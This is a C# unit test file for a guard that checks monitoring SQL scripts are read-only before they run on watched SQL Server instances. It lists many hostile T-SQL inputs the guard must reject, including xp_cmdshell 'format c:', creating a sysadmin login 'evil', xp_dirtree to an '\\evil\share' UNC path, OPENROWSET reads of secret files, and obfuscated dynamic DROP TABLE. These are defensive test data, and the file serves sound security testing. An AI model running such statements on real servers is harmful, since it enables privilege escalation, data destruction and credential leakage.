// What is sent to watched servers reads and does nothing else: the shipped collectors pass, and texts that an
// attacker with the rights of an administrator of the repository could think of are refused, by name and
// line.
using AxMonitor.Collectors;
using AxMonitor.Orchestrator.Collect.Guard;

namespace AxMonitor.Orchestrator.Tests;

public sealed class CollectorTextGuardTests
{
    private const string Run = "DECLARE @In nvarchar(300) = QUOTENAME(@AxDatabaseName) + N'.sys.sp_executesql';\n";

    private static IEnumerable<string> Collectors() =>
        new CollectorCatalog(RepositoryRoot.Combine("orchestrator", "Collectors")).Names;

    [TestCaseSource(nameof(Collectors))]
    public void A_shipped_collector_passes(string name)
    {
        var script = new CollectorCatalog(RepositoryRoot.Combine("orchestrator", "Collectors")).Get(name).Script;
        Assert.That(
            CollectorTextGuard.Faults(script.Text).Select(f => $"{script.PlaceOf(f.Line)}: {f.What}"),
            Is.Empty
        );
    }

    [TestCase("UPDATE dbo.CUSTTABLE SET NAME = N'x';", "UPDATE of dbo.CUSTTABLE")]
    [TestCase("UPDATE [#x] SET A = 1 FROM dbo.CUSTTABLE AS [#x];", "UPDATE of #x")]
    [TestCase("UPDATE t SET A = 1 FROM #x AS s INNER JOIN dbo.CUSTTABLE AS t ON 1 = 1;", "UPDATE of t")]
    [TestCase("WITH [#x] AS (SELECT A FROM dbo.CUSTTABLE) UPDATE [#x] SET A = 1;", "a common table expression")]
    [TestCase("DELETE dbo.CUSTTABLE;", "DELETE of dbo.CUSTTABLE")]
    [TestCase("DELETE FROM ##shared;", "DELETE of ##shared")]
    [TestCase("INSERT AX.dbo.CUSTTABLE (NAME) VALUES (N'x');", "INSERT of AX.dbo.CUSTTABLE")]
    [TestCase("INSERT OPENROWSET('x', 'y', 'z') VALUES (1);", "not T-SQL|no table|OPENROWSET")]
    [TestCase("DELETE #x OUTPUT deleted.A INTO dbo.CUSTTABLE;", "OUTPUT INTO")]
    [TestCase("SELECT a.A FROM (DELETE dbo.T OUTPUT deleted.A) AS a;", "a change within FROM|not T-SQL")]
    [TestCase("MERGE dbo.T AS t USING #x AS x ON 1 = 1 WHEN MATCHED THEN DELETE;", "MERGE dbo")]
    [TestCase("SELECT A = 1 INTO dbo.Taken;", "SELECT INTO dbo.Taken")]
    [TestCase("SELECT A = 1 INTO ##Taken;", "SELECT INTO ##Taken")]
    [TestCase("CREATE TABLE dbo.T (A int);", "CREATE TABLE dbo.T")]
    [TestCase("DROP TABLE #x, dbo.T;", "DROP TABLE dbo.T")]
    [TestCase("TRUNCATE TABLE dbo.T;", "TRUNCATE TABLE dbo.T")]
    [TestCase("ALTER TABLE #x ADD B int;", "ALTER TABLE #x")]
    [TestCase("CREATE INDEX IX ON dbo.T (A);", "CREATE INDEX on dbo.T")]
    [TestCase("CREATE LOGIN evil WITH PASSWORD = 'x';", "CREATE LOGIN evil")]
    [TestCase("ALTER SERVER ROLE sysadmin ADD MEMBER evil;", "ALTER SERVER ROLE")]
    [TestCase("GRANT CONTROL SERVER TO evil;", "GRANT CONTROL SERVER")]
    [TestCase("EXECUTE AS LOGIN = 'sa';", "EXECUTE AS LOGIN")]
    [TestCase("EXEC xp_cmdshell N'format c:';", "EXECUTE of anything but")]
    [TestCase("EXEC sp_configure 'show advanced options', 1;", "EXECUTE of anything but")]
    [TestCase("EXEC master..xp_dirtree N'\\\\evil\\share';", "EXECUTE of anything but")]
    [TestCase("INSERT #x EXEC dbo.Anything;", "EXECUTE of anything but")]
    [TestCase("DECLARE @p sysname = N'xp_cmdshell'; EXEC @p N'x';", "EXECUTE of anything but")]
    [TestCase("DECLARE @p sysname = QUOTENAME(N'x') + N'.sys.sp_executesql'; SET @p = N'xp_cmdshell'; EXEC @p N'x';", "EXECUTE of anything but")]
    [TestCase("EXEC @AxNames N'SELECT 1;';", "EXECUTE of anything but")]
    [TestCase("EXEC (N'DROP TABLE dbo.T;');", "DROP TABLE dbo.T")]
    [TestCase("EXEC (N'SELECT 1;') AT Other;", "EXECUTE AT")]
    [TestCase("EXEC (N'SELECT 1;') AS LOGIN = 'sa';", "EXECUTE AS")]
    [TestCase("EXEC (@AxNames);", "a text that is run")]
    [TestCase("EXEC sp_executesql N'EXEC xp_cmdshell N''x'';';", "EXECUTE within a text")]
    [TestCase("EXEC sys.sp_executesql N'DELETE dbo.T;';", "DELETE of dbo.T")]
    [TestCase("EXEC Other.AX.sys.sp_executesql N'SELECT 1;';", "on another server|EXECUTE of anything but")]
    [TestCase("DECLARE @s nvarchar(max) = N'DR' + N'OP TABLE dbo.T;'; EXEC (@s);", "a text that is run")]
    [TestCase("DECLARE @s nvarchar(max) = CHAR(68) + N'ROP TABLE dbo.T;'; EXEC (@s);", "a text that is run")]
    [TestCase("DECLARE @s nvarchar(max); SELECT @s = definition FROM sys.sql_modules; EXEC (@s);", "a text that is run")]
    [TestCase("DECLARE @s nvarchar(max); SET @s = N'SELECT 1;'; SET @s += N'DROP TABLE dbo.T;'; EXEC (@s);", "@s, which holds")]
    [TestCase("DECLARE @s nvarchar(max) = N'SELECT 1;'; UPDATE #x SET @s = A; EXEC (@s);", "@s, which holds")]
    [TestCase("DECLARE @s nvarchar(max) = N'SELECT 1;'; EXEC sp_executesql N'SELECT @o = A FROM dbo.T;', N'@o nvarchar(max) OUTPUT', @s OUTPUT; EXEC (@s);", "@s, which holds")]
    [TestCase("DECLARE @s nvarchar(max) = REPLACE(N'DXROP TABLE dbo.T;', N'X', N''); EXEC (@s);", "something else than a place|not T-SQL")]
    [TestCase("DECLARE @s nvarchar(max) = REPLACE(N'SELECT 1 FROM {t};', N'{t}', N'x DROP TABLE dbo.T'); EXEC (@s);", "more than names")]
    [TestCase("DECLARE @s nvarchar(max) = REPLACE(N'SELECT 1 FROM {t};', N'{t}', QUOTENAME(N'a') + N'.' + QUOTENAME(N'b') + N'.' + QUOTENAME(N'c') + N'.' + QUOTENAME(N'd')); EXEC (@s);", "more than names")]
    [TestCase("DECLARE @s nvarchar(max) = REPLACE(N'SELECT ''{t}'';', N'{t}', QUOTENAME(@AxNames)); EXEC (@s);", "within quotes or a comment")]
    [TestCase("DECLARE @s nvarchar(max) = REPLACE(N'SELECT 1; -- {t}', N'{t}', QUOTENAME(@AxNames)); EXEC (@s);", "within quotes or a comment")]
    [TestCase("DECLARE @s nvarchar(max) = REPLACE(N'SELECT 1; D{t}OP TABLE dbo.T;', N'{t}', N'as'); EXEC (@s);", "beside letters")]
    [TestCase("DECLARE @s nvarchar(max) = REPLACE(N'DELETE {t};', N'{t}', QUOTENAME(N'T')); EXEC (@s);", "DELETE of x.x")]
    [TestCase("CREATE TABLE #t (Body nvarchar(max)); INSERT #t (Body) SELECT definition FROM sys.sql_modules; DECLARE @s nvarchar(max) = (SELECT t.Body FROM #t AS t); EXEC (@s);", "a text that is run")]
    [TestCase("CREATE TABLE #t (Body nvarchar(max) DEFAULT (N'DROP TABLE dbo.T;')); INSERT #t DEFAULT VALUES; DECLARE @s nvarchar(max) = (SELECT t.Body FROM #t AS t); EXEC (@s);", "a text that is run|DROP TABLE dbo.T")]
    [TestCase("CREATE TABLE #t (Body nvarchar(max)); INSERT #t (Body) VALUES (N'SELECT 1;'); UPDATE x SET Body = @AxNames FROM #t AS x; DECLARE @s nvarchar(max) = (SELECT t.Body FROM #t AS t); EXEC (@s);", "a text that is run")]
    [TestCase("CREATE TABLE #t (Body nvarchar(max)); INSERT #t (Body) VALUES (N'SELECT 1;'); EXEC sp_executesql N'INSERT #t (Body) SELECT A FROM dbo.T;'; DECLARE @s nvarchar(max) = (SELECT t.Body FROM #t AS t); EXEC (@s);", "a text that is run")]
    [TestCase("SELECT A FROM OPENROWSET('SQLNCLI', 'x', 'y') AS o;", "OPENROWSET|not T-SQL")]
    [TestCase("SELECT A FROM OPENROWSET(BULK 'c:\\secret.txt', SINGLE_CLOB) AS o;", "OPENROWSET")]
    [TestCase("SELECT A FROM OPENQUERY(Other, 'DROP TABLE T');", "OPENQUERY")]
    [TestCase("SELECT A FROM OPENDATASOURCE('SQLNCLI', 'x').AX.dbo.T;", "OPENDATASOURCE")]
    [TestCase("SELECT A FROM Other.AX.dbo.T;", "on another server")]
    [TestCase("SELECT A FROM dbo.T WITH (TABLOCKX, HOLDLOCK);", "the lock hint TABLOCKX")]
    [TestCase("SELECT NEXT VALUE FOR dbo.S;", "NEXT VALUE FOR")]
    [TestCase("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE;", "an isolation level")]
    [TestCase("SET LOCK_TIMEOUT -1; SET DEADLOCK_PRIORITY HIGH;", "SET of more than|not T-SQL")]
    [TestCase("BEGIN TRANSACTION;", "BEGIN TRANSACTION")]
    [TestCase("WAITFOR DELAY '01:00:00';", "WAITFOR DELAY")]
    [TestCase("KILL 55;", "KILL 55")]
    [TestCase("SHUTDOWN;", "SHUTDOWN")]
    [TestCase("RECONFIGURE;", "RECONFIGURE")]
    [TestCase("CHECKPOINT;", "CHECKPOINT")]
    [TestCase("USE master;", "USE master")]
    [TestCase("DBCC FREEPROCCACHE;", "DBCC")]
    [TestCase("BACKUP DATABASE AX TO DISK = 'x';", "BACKUP DATABASE AX")]
    [TestCase("BULK INSERT #x FROM 'c:\\x';", "BULK INSERT")]
    [TestCase("RAISERROR (N'x', 19, 1) WITH LOG;", "RAISERROR WITH LOG")]
    [TestCase("DECLARE c CURSOR FOR SELECT 1;", "DECLARE c CURSOR")]
    [TestCase("DECLARE @h uniqueidentifier; BEGIN DIALOG @h FROM SERVICE a TO SERVICE 'b';", "BEGIN DIALOG")]
    [TestCase("DECLARE", "not T-SQL of SQL Server 2016")]
    public void A_text_that_does_more_than_read_is_refused_by_name_and_line(string statement, string named)
    {
        // Wherever it stands: within IF, a loop, TRY or CATCH as well.
        string[] places =
        [
            "SELECT 1;\n{0}",
            "IF 1 = 1\nBEGIN\nSELECT 1; {0}\nEND;",
            "BEGIN TRY\nSELECT 1;\nEND TRY BEGIN CATCH {0}\nEND CATCH;",
        ];
        using var _ = Assert.EnterMultipleScope();
        foreach (var place in places)
        {
            var text = place.Replace("{0}", statement, StringComparison.Ordinal);
            var line = text[..text.IndexOf(statement, StringComparison.Ordinal)].Count(c => c == '\n') + 1;
            var faults = CollectorTextGuard.Faults(text);
            Assert.That(faults.Select(f => f.What), Has.Some.Matches<string>(w => named.Split('|').Any(w.Contains)), text);
            Assert.That(faults.Select(f => f.Line), Has.Some.EqualTo(line).Or.Some.EqualTo(line + 1), text);
        }
    }

    [TestCase("SELECT 1;\nGO\nDROP TABLE dbo.T;", "line 3: 2 batches; a text is one batch, without GO")]
    [TestCase("", "line 1: 0 batches; a text is one batch, without GO")]
    public void More_or_less_than_a_batch_is_refused(string text, string expected) =>
        Assert.That(CollectorTextGuard.Faults(text).Select(f => f.ToString()), Is.EqualTo(new[] { expected }));

    [TestCase("SELECT 1;")]
    [TestCase("SELECT CapturedAt = SYSUTCDATETIME(); SELECT wait_type FROM sys.dm_os_wait_stats;")]
    [TestCase("DECLARE @x TABLE (A int); INSERT @x (A) VALUES (1); UPDATE @x SET A = 2; DELETE @x; SELECT A FROM @x;")]
    [TestCase("CREATE TABLE #x (A int); INSERT #x (A) SELECT 1; UPDATE t SET A = 2 FROM #x AS t; DELETE t FROM #x AS t; DROP TABLE #x;")]
    [TestCase(Run + "EXEC @In N'SELECT A FROM dbo.CUSTTABLE;';")]
    [TestCase(Run + "EXEC @In N'INSERT #x (A) SELECT A FROM dbo.CUSTTABLE;';")]
    [TestCase(
        Run
            + "DECLARE @s nvarchar(max) = N'SELECT c.{BATCH.RECID} FROM dbo.{BATCH} AS c;', @Name sysname = N'own';\n"
            + "SET @s = REPLACE(@s, N'{BATCH}', QUOTENAME(@Name)); SET @s = REPLACE(@s, N'{BATCH.RECID}', QUOTENAME(@AxNames)); EXEC @In @s;"
    )]
    public void What_only_reads_passes(string text) => Assert.That(CollectorTextGuard.Faults(text), Is.Empty);
}
